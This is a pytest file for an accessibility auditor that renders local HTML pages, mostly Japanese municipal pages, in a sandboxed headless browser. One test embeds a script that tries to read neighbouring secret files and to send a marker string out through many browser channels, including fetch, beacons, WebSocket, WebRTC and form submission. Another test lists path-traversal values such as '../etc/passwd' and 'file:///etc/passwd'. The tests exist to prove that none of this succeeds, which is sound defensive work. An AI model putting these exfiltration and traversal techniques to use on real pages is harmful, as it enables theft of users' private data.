"""A page from a disk: what its markup names is loaded from wherever it lies, and its scripts reach nothing else."""

import asyncio
import json
import os
import socket
from pathlib import Path

import pytest
from playwright.async_api import async_playwright
from running import Done, auditor
from servers import SiteServer, page

from auditor.capture.addresses import loopback
from auditor.capture.browser import SiteBrowserSettings, arguments
from auditor.capture.folder import serve_files
from auditor.capture.gate import open_gate
from auditor.capture.locate import require_browser
from auditor.capture.neighbours import HOST, address_key
from auditor.gather.local_page import named_in_page, named_in_sheet, neighbours_of

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf"
    "c0000000030101005d1e8ed10000000049454e44ae426082"
)
PALE = "main p { color: #cccccc }"  # too pale on white: seen only where the style sheet came
ROOMS = """<!DOCTYPE html><html lang="ja"><head><meta charset="{charset}"><title>くらしの案内 - みどり市</title>
<meta name="viewport" content="width=device-width">{head}</head><body><main><h1>くらしの案内</h1>
<p>ごみの出し方をお知らせします。</p>{body}</main></body></html>"""


def markup(head: str = "", body: str = "", charset: str = "utf-8") -> str:
    return ROOMS.format(head=head, body=body, charset=charset)


def write(root: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())


def audit(file: Path, tmp_path: Path) -> tuple[Done, set[str]]:
    """The command over a file, and the rules that found something."""
    lines = tmp_path / "lines.jsonl"
    done = auditor("page", file, "--no-open", "--html", tmp_path / "r.html", "--json", lines)
    return done, {json.loads(line).get("rule", "") for line in lines.read_text().splitlines()}


LAYOUTS: dict[str, tuple[str, dict[str, str | bytes]]] = {
    "an export of a CMS, with a style sheet that imports another": (
        "export/kurashi/gomi/index.html",
        {
            "export/kurashi/gomi/index.html": markup('<link rel="stylesheet" href="../../css/common.css">'),
            "export/css/common.css": '@charset "utf-8";\n@import "parts/iro.css";\nbody { margin: 0 }',
            "export/css/parts/iro.css": "main { background: url(../../img/bg.png) } " + PALE,
            "export/img/bg.png": PIXEL,
        },
    ),
    "spaces and Japanese names": (
        "広報 2026年/お知らせ（第１号）.html",
        {
            "広報 2026年/お知らせ（第１号）.html": markup(
                '<link rel="stylesheet" href="見た目 用/スタイル.css">',
                '<img src="%E5%86%99%E7%9C%9F/%E5%BA%81%E8%88%8E%201.png" alt="庁舎">',
            ),
            "広報 2026年/見た目 用/スタイル.css": PALE,
            "広報 2026年/写真/庁舎 1.png": PIXEL,
        },
    ),
    "a query behind the name": (
        "p/index.html",
        {
            "p/index.html": markup('<link rel="stylesheet" href="./css/style.css?v=20260401&amp;x=1#top">'),
            "p/css/style.css": PALE,
        },
    ),
    "a query in the name, as a crawler's copy has it": (
        "p/index.html",
        {
            "p/index.html": markup('<link rel="stylesheet" href="style.css%3Fver=6.4.css">'),
            "p/style.css?ver=6.4.css": PALE,
        },
    ),
    "a base address": (
        "site/a/b/page.html",
        {
            "site/a/b/page.html": markup('<base href="../../shared/"><link rel=stylesheet href=style.css>'),
            "site/shared/style.css": PALE,
        },
    ),
    "addresses from the root of the site": (
        "honban/oshirase/2026/index.html",
        {
            "honban/oshirase/2026/index.html": markup('<link rel="stylesheet" href="/common/css/base.css">'),
            "honban/common/css/base.css": '@import url("/common/css/text.css"); body { background: url(../i.png) }',
            "honban/common/css/text.css": PALE,
            "honban/common/i.png": PIXEL,
        },
    ),
    "capitals, no quotes, a backslash": (
        "old/INDEX.HTM",
        {
            "old/INDEX.HTM": markup("<LINK REL=StyleSheet HREF=CSS\\Main.CSS TYPE=text/css>"),
            "old/CSS/Main.CSS": PALE,
        },
    ),
    "a page in Shift_JIS": (
        "sjis/top.html",
        {
            "sjis/top.html": markup('<link rel="stylesheet" href="表示.css">', charset="Shift_JIS").encode("cp932"),
            "sjis/表示.css": PALE,
        },
    ),
    "a style element that imports": (
        "s/x/index.html",
        {
            "s/x/index.html": markup("<style>@import url( '../y.css' ) screen;</style>"),
            "s/y.css": "/* url(none.png) */ " + PALE,
        },
    ),
    "a page saved by a browser": (
        "保存/くらし.html",
        {
            "保存/くらし.html": markup(
                '<link rel="stylesheet" href="./くらし_files/css2"><script src="./くらし_files/menu.js.ダウンロード">'
                '</script><script src="./くらし_files/jquery.min.js.download"></script>',
                '<iframe src="./くらし_files/saved_resource.html" title="地図"></iframe>',
            ),
            "保存/くらし_files/css2": PALE,
            "保存/くらし_files/menu.js.ダウンロード": "var a = 1;",
            "保存/くらし_files/jquery.min.js.download": "var b = 1;",
            "保存/くらし_files/saved_resource.html": "<!DOCTYPE html><html lang=ja><title>地図</title><p>地図",
        },
    ),
    "frames": (
        "f/index.html",
        {
            "f/index.html": '<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>くらし</title></head>'
                            '<frameset cols="20%,80%"><frame src="menu.htm" title="メニュー">'
                            '<frame src="main/top.htm" title="本文"></frameset></html>',
            "f/menu.htm": markup(),
            "f/main/top.htm": markup('<link rel="stylesheet" href="../css/a.css">'),
            "f/css/a.css": PALE,
        },
    ),
    "a page of a word processor": (
        "w/案内.htm",
        {
            "w/案内.htm": markup(
                "<link rel=File-List href='案内.files/filelist.xml'><!--[if !mso]><link href='no.css'><![endif]-->"
                "<style><!-- @import url(案内.files/iro.css); --></style>",
                "<img width=40 height=30 src='案内.files/image001.png' alt='庁舎'>", charset="shift_jis",
            ).encode("cp932"),
            "w/案内.files/iro.css": PALE,
            "w/案内.files/image001.png": PIXEL,
        },
    ),
    "a template of a server language": (
        "t/page.php",
        {"t/page.php": "<?php $a = 1; ?>" + markup('<link rel="stylesheet" href="a.css">'), "t/a.css": PALE},
    ),
    "a link within the folder": ("l/index.html", {"l/index.html": markup('<link rel="stylesheet" href="now.css">'), "l/v2.css": PALE}),
}  # fmt: skip


async def drawn(file: Path) -> tuple[set[str], list[str]]:
    """The colours of the paragraphs of a served page and its frames, and what did not load."""
    near = neighbours_of(file)
    lost: list[str] = []
    with serve_files(near.files) as (_, port):
        settings = SiteBrowserSettings(
            require_browser(), "", resolver=loopback({HOST: port}), neighbours=near
        )
        async with open_gate(settings.resolver) as gate, async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=settings.browser.path, args=[*arguments(settings, gate.port), "--no-sandbox"]
            )
            page = await browser.new_page()
            page.on("response", lambda answer: lost.append(answer.url) if answer.status >= 400 else None)
            page.on("requestfailed", lambda request: lost.append(request.url))
            await page.goto(near.page)
            colours = [
                await frame.evaluate(
                    "[...document.querySelectorAll('p')].map((p) => getComputedStyle(p).color)"
                )
                for frame in page.frames
            ]
            await browser.close()
    return {colour for one in colours for colour in one}, lost


@pytest.mark.parametrize("name", LAYOUTS)
def test_the_style_sheet_of_a_local_page_is_found(name: str, tmp_path: Path) -> None:
    where, files = LAYOUTS[name]
    write(tmp_path, files)
    if name == "a link within the folder":
        (tmp_path / "l/now.css").symlink_to("v2.css")

    colours, lost = asyncio.run(drawn(tmp_path / where))

    assert "rgb(204, 204, 204)" in colours
    assert lost == []


def test_a_local_page_is_audited_as_its_style_sheets_draw_it(tmp_path: Path) -> None:
    where, files = LAYOUTS["an export of a CMS, with a style sheet that imports another"]
    write(tmp_path / "d", files)

    done, found = audit(tmp_path / "d" / where, tmp_path)

    assert done.code == 0, done.err
    assert "axe/color-contrast" in found, done.out
    assert "読み込めなかった" not in done.out
    assert "localhost" not in done.out + (tmp_path / "r.html").read_text()


def test_everything_a_page_shows_is_loaded(tmp_path: Path) -> None:
    shown = (
        '<picture><source srcset="../i/a.png 1x, ../i/b.png 2x"><img src="../i/c.png" alt="庁舎"></picture>'
        '<img src="../i/g.png" srcset="../i/a.png 320w" sizes="100vw" alt="庁舎の入口">'
        '<img class="lazy" data-src="../i/d.png" alt="受付" width="9" height="9">'
        '<div style="background-image: url(&quot;../i/e.png&quot;)">受付のご案内</div>'
        '<iframe src="../frames/map.html" title="地図"></iframe>'
        "<script>document.querySelector('.lazy').src = document.querySelector('.lazy').dataset.src</script>"
        '<script src="../js/a.js"></script>'
    )
    pictures: dict[str, str | bytes] = {f"d/i/{name}.png": PIXEL for name in "abcdefg"}
    write(
        tmp_path,
        {
            **pictures,
            "d/p/index.html": markup('<link rel="icon" href="../i/f.png">', shown),
            "d/frames/map.html": markup('<link rel="stylesheet" href="css/map.css">'),
            "d/frames/css/map.css": PALE,
            "d/js/a.js": "document.body.insertAdjacentHTML('beforeend', '<a href=x.html></a>')",
        },
    )

    done, found = audit(tmp_path / "d/p/index.html", tmp_path)

    assert "読み込めなかった" not in done.out, done.out
    assert {"axe/color-contrast", "axe/link-name"} <= found


def test_what_did_not_load_is_named_and_rules_on_looks_are_not_run(tmp_path: Path) -> None:
    head = f'<link rel="stylesheet" href="../css/ない.css"><style>{PALE}</style>'
    write(tmp_path, {"d/index.html": markup(head, '<img src="none.png" alt="庁舎">')})

    done, found = audit(tmp_path / "d/index.html", tmp_path)

    assert done.code == 0
    assert "%E3%81%AA%E3%81%84.css" in done.out and "none.png" in done.out
    assert "見た目に関わる規則は検査していません" in done.out
    assert "axe/color-contrast" not in found
    assert "画面の配置がありません" in (tmp_path / "r.html").read_text()


SPY = """
const told = [];
const tell = (name, work) => work().then(
  (text) => told.push(name + text), () => told.push(name + 'no')).then(() => { document.title = told.join(' '); });
tell('fetch:', async () => { const r = await fetch('kojin.txt'); return (await r.text()).includes('HIMITSU') ? 'READ' : 'no'; });
tell('xhr:', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '../kojin.json');
  x.onload = () => x.responseText.includes('HIMITSU') ? yes('READ') : no(); x.onerror = no; x.send(); }));
tell('import:', async () => (await import('./naibu.js')).secret);
tell('frame:', () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = 'kojin.html';
  f.onload = () => { try { f.contentDocument.body.textContent.includes('HIMITSU') ? yes('READ') : no(); } catch { no(); } };
  document.body.append(f); }));
const out = 'http://127.0.0.1:PORT/';
fetch(out + 'fetch?HIMITSU', {mode: 'no-cors'}).catch(() => 0);
fetch(out + 'post', {method: 'POST', mode: 'no-cors', body: 'HIMITSU'}).catch(() => 0);
navigator.sendBeacon(out + 'beacon', 'HIMITSU');
new Image().src = out + 'image?HIMITSU';
new Image().src = out + 'named.png?HIMITSU';
try { new WebSocket('ws://127.0.0.1:PORT/socket'); new EventSource(out + 'events'); } catch {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "worker')"]))); } catch {}
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]});
peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
const add = (tag, more) => document.head.append(Object.assign(document.createElement(tag), more));
add('link', {rel: 'stylesheet', href: out + 'sheet?HIMITSU'});
add('link', {rel: 'prefetch', href: out + 'prefetch?HIMITSU'});
add('script', {src: out + 'script?HIMITSU'});
add('style', {textContent: 'body { background: url(' + out + 'background?HIMITSU) } @import "' + out + 'import";'});
const frame = document.createElement('iframe'); frame.src = out + 'frame?HIMITSU'; document.body.append(frame);
const form = document.createElement('form'); form.method = 'post'; form.action = out + 'form';
document.body.append(form); form.submit();
"""


def test_scripts_of_a_local_page_read_nothing_else_and_send_nothing_out(tmp_path: Path) -> None:
    with (
        SiteServer({"*": page("<p>x")}) as victim,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear,
    ):
        ear.bind(("127.0.0.1", 0))
        ear.setblocking(False)
        spy = SPY.replace("PORT", str(victim.port)).replace("STUN", str(ear.getsockname()[1]))
        write(
            tmp_path,
            {
                "dl/evil.html": markup(body=f'<img src="{victim.url("/named.png")}" alt=""><script>{spy}</script>'),
                "dl/kojin.txt": "HIMITSU", "kojin.json": '{"a": "HIMITSU"}', "dl/kojin.html": "<p>HIMITSU",
                "dl/naibu.js": "export const secret = 'READ'",
            },
        )  # fmt: skip

        done, _ = audit(tmp_path / "dl/evil.html", tmp_path)

        assert set(victim.paths) <= {"/named.png"}, "what the markup names, once, as it is written"
        with pytest.raises(BlockingIOError):
            ear.recv(2_000)
    assert "READ" not in done.out, done.out
    assert "fetch:no" in done.out and "import:no" in done.out, "the script ran"


@pytest.mark.parametrize(
    "leave", ["location = OUT", "open(OUT)", "const f = document.createElement('form'); f.action = OUT;"
              "f.target = '_blank'; document.body.append(f); f.submit()"],
)  # fmt: skip
def test_a_local_page_that_leads_elsewhere_is_not_followed(leave: str, tmp_path: Path) -> None:
    with SiteServer({"*": page("<p>x")}) as victim:
        out = json.dumps(victim.url("/away?HIMITSU"))
        write(tmp_path, {"a.html": markup(body=f"<script>{leave.replace('OUT', out)}</script>")})

        audit(tmp_path / "a.html", tmp_path)

        assert victim.paths == []


def test_a_file_that_markup_names_is_served_only_where_it_is_one_to_show(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside, {"secret.css": "p {}", "secret.png": PIXEL})
    named = ["way-out.css", ".hidden.css", ".git/a.css", "passwords.txt", "data.csv", "pipe.css", "folder.css",
             "../../../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "%2e%2e/%2e%2e/x.css",
             "a.css", "book.html", "\\\\server\\share\\a.css"]  # fmt: skip
    links = "".join(f'<link rel="stylesheet" href="{name}">' for name in named)
    write(
        tmp_path,
        {
            "d/index.html": markup(links), "d/a.css": "p {}", "d/.hidden.css": "p {}", "d/.git/a.css": "p {}",
            "d/passwords.txt": "x", "d/data.csv": "x", "d/folder.css/x.css": "p {}", "d/book.html": "<p>",
        },
    )  # fmt: skip
    (tmp_path / "d/way-out.css").symlink_to(outside / "secret.css")
    os.mkfifo(tmp_path / "d/pipe.css")

    served = neighbours_of(tmp_path / "d/index.html")

    assert set(served.files.values()) == {str(tmp_path / "d/index.html"), str(tmp_path / "d/a.css")}


def test_addresses_are_found_in_style_sheets_as_browsers_find_them() -> None:
    sheet = """@charset "utf-8"; /* @import "no.css"; url(no.png) */ @import "a.css" print; @import url(b.css);
    @import url( "c d.css" ) screen; p { background: URL( 'e.png' ), url(f\\20g.png) no-repeat } q { content: "\\201c" }
    @font-face { src: url(h.woff2) format("woff2"), local("Meiryo") } i { background: image-set("j.png" 1x, url(k.png) 2x) }
    b { background: url(data:image/png;base64,AA) }"""

    found = list(named_in_sheet(sheet))

    assert [name for name, kind in found if kind == "sheet"] == ["a.css", "b.css", "c d.css"]
    assert {"e.png", "f g.png", "h.woff2", "j.png", "k.png"} <= {name for name, _ in found}
    assert not {"no.css", "no.png"} & {name for name, _ in found}


def test_other_hosts_are_asked_for_what_markup_names_and_for_what_their_style_sheets_need(
    tmp_path: Path,
) -> None:
    write(
        tmp_path,
        {
            "index.html": markup(
                '<link rel="stylesheet" href="//cdn.example.jp/x.css?v=1"><script src="https://a.example.jp/a.js">'
                '</script><link rel="dns-prefetch" href="//spy.example.jp">',
                '<img src="http://img.example.jp/写真.png"><iframe src="https://video.example.jp/1"></iframe>'
                '<a href="https://b.example.jp/">b</a><form action="https://c.example.jp/"></form>',
            )
        },
    )

    near = neighbours_of(tmp_path / "index.html")

    assert near.hosts == {"cdn.example.jp", "a.example.jp", "img.example.jp"}
    assert near.may_load("http://cdn.example.jp/x.css?v=1", "")
    assert near.may_load("http://img.example.jp/%E5%86%99%E7%9C%9F.png", "")
    assert near.may_load("https://fonts.example.jp/f.woff2", "http://cdn.example.jp/")
    assert not near.may_load("https://fonts.example.jp/f.woff2", "http://page.localhost/")
    assert not near.may_load("https://a.example.jp/a.js?secret", "http://page.localhost/")
    assert not near.may_load("https://video.example.jp/1", "")
    assert not near.may_load("https://b.example.jp/", "")


def test_one_address_has_one_key_however_it_is_written() -> None:
    assert address_key("HTTPS://例え.JP:443/a%20b#x") == address_key("https://xn--r8jz45g.jp/a b")
    assert address_key("http://a.jp") == address_key("http://a.jp/")
    assert address_key("http://a.jp/?x=1") != address_key("http://a.jp/?x=2")


def test_markup_that_is_none_names_nothing() -> None:
    assert named_in_page("", "http://page.localhost/a.html")[1] == []
    assert named_in_page(
        "<p>\x00<base href='http://[x'><img src='http://[y'>", "http://page.localhost/a.html"
    )[1]


@pytest.mark.parametrize(("name", "words"), [("", "フォルダーです"), ("pipe", "名前付きパイプ"), ("gone", "リンクの先"),
                                             ("x" * 300, "読めません")])  # fmt: skip
@pytest.mark.parametrize("command", ["page", "file"])
def test_what_is_no_file_is_one_line_with_its_cause(
    command: str, name: str, words: str, tmp_path: Path
) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "gone").symlink_to(tmp_path / "nowhere")
    if command == "file" and not name:
        (tmp_path / "pipe").unlink()
        words = "検査するファイルがありません"

    done = auditor(command, tmp_path / name)

    assert (done.code, len(done.err.splitlines())) == (2, 1)
    assert words in done.err
